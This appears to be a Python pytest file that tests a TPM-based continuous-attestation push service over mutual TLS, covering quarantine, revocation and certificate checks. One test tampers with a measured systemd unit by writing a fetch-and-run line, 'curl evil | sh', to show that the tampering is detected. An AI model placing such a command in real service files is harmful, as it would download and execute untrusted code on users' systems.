"""Push-mode continuous attestation against a real software TPM (swtpm on loopback) and the push service
over mutual TLS on loopback: a joined node pushes quotes over fresh nonces, outbound only; a changed
measured file quarantines it and starts its revocation; another node's certificate, or none, gets nothing;
a node that stops pushing is quarantined at its deadline; released and quoting cleanly again, it is back."""

from __future__ import annotations

import ssl
import time
import urllib.error
from pathlib import Path

import pytest
import tpm
from l7.l7_peers import ca_and_server_cert, node_identity

from edgewright.attest import push
from edgewright.attest.manufacturer import Manufacturer
from edgewright.attest.store import Store
from edgewright.attest.verifier import ATTESTED, QUARANTINED, Verifier
from edgewright.xds.identity import CA_CERT, ensure_client_ca
from plugins.module_utils.attest_push import _post, client_context, push_once
from tests import swtpm
from tests.unit.test_attest_verifier import AK, CLASS_PCRS, enroll, trusting

ROOT = Path(__file__).resolve().parents[2]
NODE = "push-a"


def until(condition, what: str, wait_s: float = 30):
    deadline = time.monotonic() + wait_s
    while not (value := condition()):
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.1)
    return value


@pytest.fixture
def site(tmp_path):
    """An enrolled, attested node with a measured file, and the push service it reaches."""
    vendor = Manufacturer(tmp_path / "vendor")
    verifier = Verifier(trusting(Store, tmp_path / "verifier", vendor))
    node_tpm = swtpm.start(tmp_path / "tpm", vendor)
    artefact = tmp_path / "edgewright-unit.service"
    artefact.write_text("[Service]\nExecStart=/usr/bin/true\n")
    measure = (tpm.MEASUREMENT_PCR, [str(artefact)], str(tmp_path / "measurements.log"))
    assert enroll(verifier, NODE, node_tpm).ok
    # Joined as site.yml joins it: measured, then attested once, its class's policy learned from it.
    tpm.measure_artefacts(node_tpm.tcti, *measure)
    nonce = verifier.issue_nonce(NODE)
    assert verifier.verify(
        NODE,
        "edge",
        *tpm.quote(node_tpm.tcti, AK, CLASS_PCRS, nonce),
        learn_policy=True,
        measurement_log=tpm.read_log_text(measure[2]),
        expected_pcrs=CLASS_PCRS,
        policy_reference_node=NODE,
    ).ok

    server_ca, cert, key = ca_and_server_cert(tmp_path, "controller", "127.0.0.1")
    client_ca = tmp_path / "client-ca"
    ensure_client_ca(client_ca)
    revoked: list[tuple[str, str]] = []
    service = push.PushService(verifier, deadline_s=3600, on_quarantined=lambda n, r: revoked.append((n, r)))
    server = push.start_server(service, "127.0.0.1", 0, push.tls_context(cert, key, client_ca / CA_CERT))

    class Site:
        pass

    s = Site()
    s.verifier, s.tpm, s.artefact, s.measure, s.service, s.revoked = (
        verifier, node_tpm, artefact, measure, service, revoked,
    )  # fmt: skip
    s.url = f"https://127.0.0.1:{server.server_address[1]}"

    def context(node: str) -> ssl.SSLContext:
        identity = node_identity(client_ca, node, tmp_path)
        return client_context(str(server_ca), str(identity / "cert.pem"), str(identity / "key.pem"))

    s.context = context
    s.push = lambda node=NODE, as_node=NODE: push_once(
        s.url, node, s.tpm.tcti, AK, CLASS_PCRS, context(as_node), measure=s.measure
    )
    yield s
    service.stop()
    server.shutdown()
    s.tpm.stop()


def test_a_clean_node_pushes_and_stays_attested(site):
    before = site.verifier.status(NODE)["last_attested_at"]
    time.sleep(1.1)  # a whole second, so the new attestation's time differs
    status, answer = site.push()
    assert (status, answer["status"]) == (200, "attested"), answer
    assert site.verifier.status(NODE)["last_attested_at"] > before
    assert [e["outcome"] for e in site.verifier.store.evidence(NODE)][-1] == "attested"
    assert site.revoked == []


def test_a_changed_measured_file_quarantines_the_node_and_starts_its_revocation(site):
    site.artefact.write_text("[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n")
    status, answer = site.push()
    assert (status, answer["status"]) == (403, "quarantined"), answer
    assert "edgewright-unit.service" in answer["reason"]
    assert site.verifier.status(NODE)["status"] == QUARANTINED
    assert until(lambda: site.revoked, "the revocation to start")[0][0] == NODE
    # Quarantined, it gets no nonce: every later push is refused.
    status, answer = site.push()
    assert status == 403 and "is quarantined" in answer["reason"]

    # Fixed, released, its TPM restarted (the changed measurement cannot be taken out of the PCR
    # otherwise): its next clean quote brings it back.
    site.artefact.write_text("[Service]\nExecStart=/usr/bin/true\n")
    site.verifier.release(NODE, by="operator")
    site.tpm.stop()
    site.tpm = swtpm.start(site.tpm.state)
    status, answer = site.push()
    assert (status, answer["status"]) == (200, "attested"), answer
    assert site.verifier.status(NODE)["status"] == ATTESTED


def test_a_push_for_another_node_or_without_a_certificate_gets_nothing(site):
    record = site.verifier.status(NODE)
    status, answer = site.push(as_node="push-b")
    assert status == 403 and answer["error"] == f"the client certificate names push-b, not {NODE}"
    assert site.verifier.status(NODE) == record  # no nonce issued, nothing changed
    # A client with no certificate at all (trusting anything, to get as far as it can).
    anonymous = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    anonymous.check_hostname, anonymous.verify_mode = False, ssl.CERT_NONE

    with pytest.raises((urllib.error.URLError, ssl.SSLError, ConnectionError)):
        _post(f"{site.url}/v1/nodes/{NODE}/nonce", {}, anonymous, 10)
    assert site.verifier.status(NODE) == record
    # A node never enrolled gets nothing either, even with a certificate of its own.
    status, answer = site.push(node="push-b", as_node="push-b")
    assert status == 403 and "not a joined, attested node" in answer["reason"]


def test_a_node_that_stops_pushing_is_quarantined_at_its_deadline(site):
    site.service.deadline_s = 1.0
    # Armed for every attested node when the service starts, then again by each passing quote.
    assert site.service.arm_joined() == [NODE]
    status, _ = site.push()
    assert status == 200
    until(lambda: site.verifier.status(NODE)["status"] == QUARANTINED, "the deadline")
    assert "no attestation pushed within 1 s" in site.verifier.status(NODE)["reason"]
    assert site.revoked and site.revoked[0][0] == NODE


def test_the_nodes_timer_script_pushes_with_the_settings_the_role_writes(site, tmp_path):
    import json
    import os
    import subprocess
    import sys

    identity = node_identity(tmp_path / "client-ca", NODE, tmp_path)
    pcr, artefacts, log = site.measure
    settings = {
        "url": site.url, "node": NODE, "tcti": site.tpm.tcti, "ak_handle": hex(AK), "pcrs": CLASS_PCRS, "pcr": pcr,
        "artefacts": artefacts, "log": log, "ca": str(tmp_path / "controller-ca.pem"),
        "cert": str(identity / "cert.pem"), "key": str(identity / "key.pem"),
    }  # fmt: skip
    (tmp_path / "push.json").write_text(json.dumps(settings))
    script = ROOT / "roles" / "attest" / "files" / "edgewright-attest-push"
    env = {**os.environ, "PYTHONPATH": str(ROOT / "plugins" / "module_utils")}
    run = subprocess.run(
        [sys.executable, str(script), str(tmp_path / "push.json")], env=env, capture_output=True, text=True
    )
    assert run.returncode == 0, run.stdout + run.stderr
    assert run.stdout.startswith('200 {"reason": "attested", "status": "attested"}')
